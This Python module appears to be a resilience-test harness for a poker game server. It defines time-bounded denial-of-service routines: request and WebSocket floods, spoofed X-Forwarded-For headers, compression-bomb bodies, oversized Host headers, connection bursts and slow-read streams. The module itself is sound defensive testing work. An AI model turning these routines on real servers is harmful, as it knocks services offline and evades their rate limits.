"""The attacks: what a hostile script at one address might do to a server, each bounded in connections and in time."""

from __future__ import annotations

import asyncio
import itertools
import json
import random
import socket as network
import string
import struct
import time
import zlib
from collections import Counter
from collections.abc import Awaitable, Callable, Iterator
from contextlib import suppress
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import urlsplit

TEXT, PING = 1, 9
WORKERS = 64
"""Connections of a flood of requests."""
SOCKETS = 16
"""Sockets of a flood of frames."""
FRAMES_AT_ONCE = 200
BURST = 512
"""Connections that ask at one moment."""
RETRY_SECONDS = 0.05
"""Pause after a socket was refused, before the next try."""

Stream = tuple[asyncio.StreamReader, asyncio.StreamWriter]


@dataclass
class Target:
    """The server, a table of it, and what became of the attack."""

    url: str
    code: str
    addresses: list[str]
    """Where the attacker's connections come from, one after another."""
    until: float
    counts: Counter[str] = field(default_factory=Counter)
    connections: int = 0

    @property
    def over(self) -> bool:
        return time.monotonic() >= self.until

    async def connect(self, receive_buffer: int = 0) -> Stream:
        """A connection from the attacker's next address."""
        server = urlsplit(self.url)
        address = self.addresses[self.connections % len(self.addresses)]
        self.connections += 1
        end = network.socket()
        try:
            if receive_buffer:
                end.setsockopt(network.SOL_SOCKET, network.SO_RCVBUF, receive_buffer)
            end.setblocking(False)
            end.bind((address, 0))
            await asyncio.get_running_loop().sock_connect(end, (server.hostname, server.port))
            return await asyncio.open_connection(sock=end)
        except BaseException:
            end.close()
            raise


@dataclass(frozen=True)
class Attack:
    goal: str
    """What the attack goes for."""
    about: str
    run: Callable[[Target], Awaitable[None]]


# Requests


def request(method: str, path: str, body: bytes = b"", **headers: str) -> bytes:
    lines = [f"{method} {path} HTTP/1.1", "Host: localhost", f"Content-Length: {len(body)}"]
    lines += [f"{name.replace('_', '-')}: {value}" for name, value in headers.items()]
    return "\r\n".join([*lines, "", ""]).encode("latin-1") + body


async def answer(reader: asyncio.StreamReader) -> tuple[int, bytes]:
    head = await reader.readuntil(b"\r\n\r\n")
    length = 0
    for line in head.lower().split(b"\r\n"):
        if line.startswith(b"content-length:"):
            length = int(line.partition(b":")[2])
    return int(head[9:12]), await reader.readexactly(length)


async def flood(target: Target, requests: Iterator[bytes]) -> None:
    """Ask as fast as answers come, on many connections; whoever is cut off comes back."""

    async def work() -> None:
        while not target.over:
            writer = None
            try:
                reader, writer = await target.connect()
                while not target.over:
                    writer.write(next(requests))
                    target.counts["sent"] += 1
                    status, _ = await answer(reader)
                    target.counts["refused" if status == 429 else "failed" if status >= 500 else "answered"] += 1
            except (OSError, asyncio.IncompleteReadError):
                target.counts["cut"] += 1
            finally:
                if writer is not None:
                    writer.transport.abort()

    await finish(target, *(work() for _ in range(WORKERS)))


async def finish(target: Target, *work: Awaitable[None]) -> None:
    """Let the work go on until the time is up."""
    tasks = [asyncio.ensure_future(one) for one in work]
    await asyncio.wait(tasks, timeout=max(0.0, target.until - time.monotonic()))
    for task in tasks:
        task.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)


def post(path: str, body: object, **headers: str) -> bytes:
    return request("POST", path, json.dumps(body).encode(), Content_Type="application/json", **headers)


def guesses(path: str) -> Iterator[bytes]:
    chance = random.Random(1)
    while True:
        yield request("GET", path + "".join(chance.choices(string.ascii_uppercase, k=6)))


def games() -> Iterator[bytes]:
    for number in itertools.count():
        yield post("/gateau/config", {"config": "max_players", "value": 4, "game_id": f"race {number}"})


def many_addresses() -> Iterator[bytes]:
    """As a trusted proxy: callers of one IPv6 network, each with another address and a lie of its own before it."""
    for number in itertools.count():
        lie = f"198.51.{number >> 8 & 255}.{number & 255}"
        head = request("GET", "/api/v1/tables", X_Forwarded_For=lie)
        yield head.replace(b"\r\n\r\n", f"\r\nX-Forwarded-For: 2001:db8::{number & 0xFFFF:x}\r\n\r\n".encode())


def renames(token: str) -> Iterator[bytes]:
    for number in itertools.count():
        body = json.dumps({"name": f"Eve {number}"}).encode()
        yield request("PATCH", "/api/v1/me", body, Content_Type="application/json", Authorization=f"Bearer {token}")


def owned(path: str) -> Callable[[str], Iterator[bytes]]:
    return lambda token: itertools.repeat(post(path, {}, Authorization=f"Bearer {token}"))


def requests_as_somebody(make: Callable[[str], Iterator[bytes]]) -> Callable[[Target], Awaitable[None]]:
    async def run(target: Target) -> None:
        await flood(target, make(await token_of(target)))

    return run


def equities() -> Iterator[bytes]:
    """The longest calculations that are to be had."""
    return itertools.repeat(post("/api/v1/equity", {"hands": ["random"] * 9, "trials": 1_000_000}))


def imports() -> Iterator[bytes]:
    """As many hands to read as a body holds."""
    hand = (
        'variant = "NT"\nantes = [0, 0]\nblinds_or_straddles = [1, 2]\nmin_bet = 2\nstarting_stacks = [200, 200]\n'
        'actions = ["d dh p1 AsKs", "d dh p2 QdQh", "p2 f"]\n'
    )
    text = "".join(f"[{number}]\n{hand}" for number in range(1, 15_000 // (len(hand) + 6)))
    return itertools.repeat(post("/api/v1/import", {"text": text}))


UNPACKED = 15_000_000


def packed_bodies(target: Target) -> Iterator[bytes]:
    """Bodies below every limit that become fifteen megabytes."""
    body = zlib.compress(bytes(UNPACKED), 9)
    return itertools.repeat(
        request("POST", "/api/v1/identities", body, Content_Encoding="deflate", Content_Type="application/json")
    )


def long_hosts(target: Target) -> Iterator[bytes]:
    """Pictures of links that are as long as a QR code can hold."""
    head = request("GET", f"/api/v1/tables/{target.code}/qr.svg")
    return itertools.repeat(head.replace(b"Host: localhost", b"Host: " + b"h" * 2300))


def pictures(target: Target) -> Iterator[bytes]:
    """Pictures of links that differ, so that none is kept from before."""
    head = request("GET", f"/api/v1/tables/{target.code}/qr.svg")
    for number in itertools.cycle(range(1, 65536)):
        yield head.replace(b"Host: localhost", b"Host: localhost:%d" % number)


def requests_at(make: Callable[[Target], Iterator[bytes]]) -> Callable[[Target], Awaitable[None]]:
    return lambda target: flood(target, make(target))


async def bursts(target: Target) -> None:
    """Ask on hundreds of connections at one moment, again and again."""
    question = request("GET", "/api/v1/session")
    while not target.over:
        streams: list[Stream] = []
        try:
            for _ in range(BURST):
                streams.append(await target.connect())  # noqa: PERF401 - those made are closed, whatever comes
            while not target.over:
                for _, writer in streams:
                    writer.write(question)
                target.counts["sent"] += BURST
                for reader, _ in streams:
                    status, _ = await answer(reader)
                    target.counts["refused" if status == 429 else "answered"] += 1
        except (OSError, asyncio.IncompleteReadError):
            target.counts["cut"] += 1
        finally:
            for _, writer in streams:
                writer.transport.abort()


async def connections(target: Target) -> None:
    """A connection for each request."""

    async def work() -> None:
        while not target.over:
            writer = None
            try:
                reader, writer = await target.connect()
                writer.write(request("GET", "/healthz", Connection="close"))
                target.counts["sent"] += 1
                status, _ = await answer(reader)
                target.counts["refused" if status == 429 else "answered"] += 1
            except (OSError, asyncio.IncompleteReadError):
                target.counts["cut"] += 1
            finally:
                if writer is not None:
                    writer.transport.abort()

    await finish(target, *(work() for _ in range(WORKERS)))


PEOPLE = 3
"""Identities of somebody who opens tournaments."""
TOURNAMENTS_EACH = 20
"""The most that a person may host."""
HOUSE_PLAYERS = 200
HOUSE_PLAYERS_AT_ONCE = 50


async def asked(target: Target, stream: Stream, path: str, body: object, token: str) -> dict[str, Any] | None:
    """The answer to one request of somebody; None where it was refused."""
    reader, writer = stream
    writer.write(post(path, body, Authorization=f"Bearer {token}"))
    status, told = await answer(reader)
    target.counts["answered" if status < 300 else "refused"] += 1
    found: dict[str, Any] | None = json.loads(told) if status < 300 else None
    return found


async def left_tournaments(target: Target) -> None:
    """Open as many tournaments of house players as there are to be had, as fast as answers come, and go."""

    async def host() -> None:
        with suppress(OSError, asyncio.IncompleteReadError):
            token = await token_of(target)
            stream = await target.connect()
            for _ in range(TOURNAMENTS_EACH):
                new = {"game": "holdem", "name": "Evening", "format": "mtt"}
                told = await asked(target, stream, "/api/v1/tournaments", new, token)
                if told is None or target.over:
                    break
                path = f"/api/v1/tournaments/{told['code']}"
                for _ in range(0, HOUSE_PLAYERS, HOUSE_PLAYERS_AT_ONCE):
                    await asked(target, stream, path + "/host/add_bot", {"count": HOUSE_PLAYERS_AT_ONCE}, token)
                await asked(target, stream, path + "/start", {}, token)
            stream[1].transport.abort()

    await finish(
        target, asyncio.gather(*(host() for _ in range(PEOPLE))), asyncio.sleep(target.until - time.monotonic())
    )


async def comings_and_goings(target: Target) -> None:
    """Add a house player and send it away again, without end."""
    token = await token_of(target)
    stream = await target.connect()
    told = await asked(target, stream, "/api/v1/tables", {"game": "holdem"}, token)
    assert told is not None
    path = f"/api/v1/tables/{told['code']}/host/"

    def moves() -> Iterator[bytes]:
        for seat in itertools.cycle(range(6)):
            yield post(path + "add_bot", {"seat": seat}, Authorization=f"Bearer {token}")
            yield post(path + "remove_bot", {"seat": seat}, Authorization=f"Bearer {token}")

    await flood(target, moves())


def requests_of(make: Callable[[], Iterator[bytes]]) -> Callable[[Target], Awaitable[None]]:
    return lambda target: flood(target, make())


async def no_http(target: Target) -> None:
    """Connect, send bytes that are no request, and come back."""

    async def work() -> None:
        while not target.over:
            writer = None
            try:
                reader, writer = await target.connect()
                writer.write(b"GET / HTTP/1.1\r\nbad\x00header: x\r\n\r\n")
                target.counts["sent"] += 1
                target.counts["answered" if await reader.read() else "cut"] += 1
            except OSError:
                target.counts["cut"] += 1
            finally:
                if writer is not None:
                    writer.transport.abort()

    await finish(target, *(work() for _ in range(WORKERS)))


async def handshakes(target: Target) -> None:
    """Begin a socket, and break the connection while the server answers."""
    question = upgrade(f"/api/v1/tables/{target.code}/socket")

    async def work() -> None:
        while not target.over:
            with suppress(OSError):
                _, writer = await target.connect()
                writer.get_extra_info("socket").setsockopt(
                    network.SOL_SOCKET, network.SO_LINGER, struct.pack("ii", 1, 0)
                )
                writer.write(question)
                target.counts["sent"] += 1
                await asyncio.sleep(0)
                writer.transport.abort()

    await finish(target, *(work() for _ in range(WORKERS)))


# Sockets


def upgrade(path: str, **headers: str) -> bytes:
    return request(
        "GET", path, Connection="Upgrade", Upgrade="websocket", Sec_WebSocket_Version="13",
        Sec_WebSocket_Key="dGhlIHNhbXBsZSBub25jZQ==", **headers,
    )  # fmt: skip


def frame(opcode: int, payload: bytes) -> bytes:
    """A client's frame, masked with zeros."""
    size = bytes([0x80 | len(payload)]) if len(payload) < 126 else b"\xfe" + len(payload).to_bytes(2, "big")
    return bytes([0x80 | opcode]) + size + bytes(4) + payload


async def open_socket(target: Target, path: str, receive_buffer: int = 0, **headers: str) -> Stream | None:
    """A WebSocket; None where it was refused."""
    with suppress(OSError, asyncio.IncompleteReadError):
        reader, writer = await target.connect(receive_buffer)
        writer.write(upgrade(path, **headers))
        status, _ = await answer(reader)
        if status == 101:
            target.counts["opened"] += 1
            return reader, writer
        target.counts["refused"] += 1
        writer.transport.abort()
        return None
    target.counts["cut"] += 1
    return None


async def pour(target: Target, stream: Stream, data: bytes) -> None:
    """Send the same frames again and again, and read what comes."""
    reader, writer = stream

    async def read() -> None:
        while await reader.read(65536):
            pass

    reading = asyncio.ensure_future(read())
    try:
        while not target.over and not reading.done():
            writer.write(data)
            await writer.drain()
            target.counts["sent"] += FRAMES_AT_ONCE
    except OSError:
        pass
    if not target.over:
        target.counts["cut"] += 1
    reading.cancel()
    await asyncio.gather(reading, return_exceptions=True)
    writer.transport.abort()


async def token_of(target: Target) -> str:
    reader, writer = await target.connect()
    writer.write(post("/api/v1/identities", {"name": "Eve"}))
    _, body = await answer(reader)
    writer.close()
    return str(json.loads(body)["token"])


def pings_of(data: bytes) -> Callable[[Target], Awaitable[None]]:
    async def run(target: Target) -> None:
        token = await token_of(target)

        async def work() -> None:
            while not target.over:
                path = f"/api/v1/tables/{target.code}/socket?view=0"
                stream = await open_socket(target, path, Authorization=f"Bearer {token}")
                if stream is None:
                    await asyncio.sleep(RETRY_SECONDS)
                else:
                    await pour(target, stream, data * FRAMES_AT_ONCE)

        await finish(target, *(work() for _ in range(SOCKETS)))

    return run


async def chatter(target: Target) -> None:
    """Talk without end at a table of one's own: each message is a command, kept in the log and told to all sockets."""
    token = await token_of(target)
    reader, writer = await target.connect()
    writer.write(post("/api/v1/tables", {"game": "holdem"}, Authorization=f"Bearer {token}"))
    path = f"/api/v1/tables/{json.loads((await answer(reader))[1])['code']}/socket"
    writer.close()
    says = [{"type": "chat", "id": str(number), "text": "hello " * 20} for number in range(FRAMES_AT_ONCE)]
    data = b"".join(frame(TEXT, json.dumps(one).encode()) for one in says)

    async def work() -> None:
        while not target.over:
            stream = await open_socket(target, path, Authorization=f"Bearer {token}")
            if stream is None:
                await asyncio.sleep(RETRY_SECONDS)
            else:
                await pour(target, stream, data)

    await finish(target, *(work() for _ in range(SOCKETS)))


async def unread_streams(target: Target) -> None:
    """Follow the table on many streams, from its first event on, and never read."""

    async def work() -> None:
        while not target.over:
            with suppress(OSError):
                _, writer = await target.connect(receive_buffer=4096)
                writer.transport.pause_reading()  # type: ignore[attr-defined]
                writer.write(request("GET", f"/api/v1/tables/{target.code}/events?follow=1"))
                target.counts["sent"] += 1
                while not target.over and not writer.transport.is_closing():
                    await asyncio.sleep(0.05)
                    writer.write(b"\r\n")
                target.counts["cut"] += not target.over
                writer.transport.abort()

    await finish(target, *(work() for _ in range(WORKERS)))
